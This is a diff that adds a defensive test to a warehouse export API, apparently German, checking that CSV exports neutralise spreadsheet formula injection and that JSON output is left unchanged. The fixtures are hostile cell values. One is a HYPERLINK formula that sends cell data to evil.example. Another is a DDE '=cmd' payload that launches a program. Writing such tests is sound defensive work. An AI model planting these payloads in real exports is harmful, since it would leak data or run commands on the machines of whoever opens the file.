@@ -339,6 +339,115 @@ describe.each(databaseKinds())('export API on %s', (kind) => {
     }
   });
 
+  it('writes no cell a spreadsheet would run as a formula, in every feed, and leaves JSON as it is', async () => {
+    // Codes and names as a worker could have typed them or an ERP import brought them, each starting with a
+    // character German Excel (sep=;) reads as the start of a formula. Booked in 2035: after every other row.
+    const db = t.database.db;
+    const hostile = {
+      user: '@SUM(1+1)',
+      location: '+49-LHM',
+      article: '-2+3',
+      charge: '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+      tracking: '\t=1+1',
+      carrier: "=cmd|' /C calc'!A0",
+      belegnr: '\r=2+2',
+      cart: '=ZW99',
+    };
+    const one = async <T>(query: Promise<{ rows: T[] }>) => {
+      const row = (await query).rows[0];
+      if (!row) throw new Error('insert returned no row');
+      return row;
+    };
+    const ids = {
+      user: (
+        await one(
+          sql<{ id: number }>`insert into users (name) values (${hostile.user}) returning id`.execute(db),
+        )
+      ).id,
+      location: (
+        await one(
+          sql<{ id: number }>`insert into locations (code, name, is_lhm)
+          values (${hostile.location}, 'x', true) returning id`.execute(db),
+        )
+      ).id,
+      article: (
+        await one(
+          sql<{ id: number }>`insert into articles (nummer, name)
+          values (${hostile.article}, 'x') returning id`.execute(db),
+        )
+      ).id,
+      note: (
+        await one(
+          sql<{ id: number }>`insert into delivery_notes (belegnr, eu)
+          values (${hostile.belegnr}, false) returning id`.execute(db),
+        )
+      ).id,
+      cart: (
+        await one(
+          sql<{ id: number }>`insert into carts (wagennummer, bezeichnung)
+          values (${hostile.cart}, 'x') returning id`.execute(db),
+        )
+      ).id,
+    };
+    const shipment = await one(
+      sql<{ id: number }>`insert into shipments (tracking, delivery_note_id, carrier)
+      values (${hostile.tracking}, ${ids.note}, ${hostile.carrier}) returning id`.execute(db),
+    );
+    const at = '2035-01-01T00:00:00Z';
+    await sql`insert into movements (kind, article_id, to_location_id, amount, charge, user_id, at)
+      values ('korrektur', ${ids.article}, ${ids.location}, 5, ${hostile.charge}, ${ids.user}, ${at})`.execute(
+      db,
+    );
+    await sql`insert into inventory_counts (location_id, article_id, counted, previous, user_id, at)
+      values (${ids.location}, ${ids.article}, 3, 0, ${ids.user}, ${at})`.execute(db);
+    await sql`insert into wms_returns (article_id, location_id, amount, charge, mhd, quality, user_id, at)
+      values (${ids.article}, ${ids.location}, 2, ${hostile.charge}, '2027-12-31', 2, ${ids.user}, ${at})`.execute(
+      db,
+    );
+    await sql`insert into parcel_scans (shipment_id, kind, user_id, at)
+      values (${shipment.id}, 'ausgang', ${ids.user}, ${at})`.execute(db);
+    await sql`insert into customs_parcels (cart_id, delivery_note_id, user_id, at)
+      values (${ids.cart}, ${ids.note}, ${ids.user}, ${at})`.execute(db);
+
+    // Each text cell: a single quote before it (the spreadsheet shows the text), and quoted. Numbers as they are.
+    const cell = {
+      user: `"'@SUM(1+1)"`,
+      location: `"'+49-LHM"`,
+      article: `"'-2+3"`,
+      charge: `"'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")"`,
+      tracking: `"'\t=1+1"`,
+      carrier: `"'=cmd|' /C calc'!A0"`,
+      belegnr: `"'\r=2+2"`,
+      cart: `"'=ZW99"`,
+    };
+    const expected: Record<Feed, (id: number, time: string) => string> = {
+      movements: (id, time) =>
+        `${id},${time},korrektur,${cell.article},,${cell.location},5,${cell.charge},,${cell.user}`,
+      inventory: (id, time) => `${id},${time},${cell.location},${cell.article},3,0,${cell.user}`,
+      wmsreturns: (id, time) =>
+        `${id},${time},${cell.article},${cell.location},2,${cell.charge},2027-12-31,2,${cell.user}`,
+      parcels: (id, time) =>
+        `${id},${time},ausgang,${cell.tracking},${cell.carrier},${cell.belegnr},${cell.user}`,
+      customs: (id, time) => `${id},${time},${cell.cart},${cell.belegnr},${cell.user}`,
+    };
+    for (const feed of FEEDS) {
+      const json = await page(`/api/export/${feed}?since=${at}`);
+      expect(json.items, feed).toHaveLength(1);
+      const item = json.items[0] as { id: number; time: string; user: string };
+      // JSON carries the text unchanged: it is data for a program, no spreadsheet reads it.
+      expect(item.user, feed).toBe(hostile.user);
+      const csv = await get(`/api/export/${feed}?since=${at}&format=csv`);
+      expect(csv.statusCode, feed).toBe(200);
+      const [header, ...rest] = csv.body.split('\r\n');
+      expect(header, feed).not.toMatch(/^\uFEFF/);
+      expect(rest.join('\r\n'), feed).toBe(`${expected[feed](item.id, item.time)}\r\n`);
+      const excel = await get(`/api/export/${feed}?since=${at}&format=csv&sep=;`);
+      expect(excel.body.split('\r\n').slice(1).join('\r\n'), feed).toBe(
+        `${expected[feed](item.id, item.time).replace(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/g, ';')}\r\n`,
+      );
+    }
+  });
+
   it('reads a page through the (time, id) index, with no sort', async () => {
     const explain = async (db: Kysely<Database>, feed: Feed, after: string) => {
       const query = pageQuery(feed, { after: { time: after, id: 0 }, since: null, limit: 1001 }).compile(db);
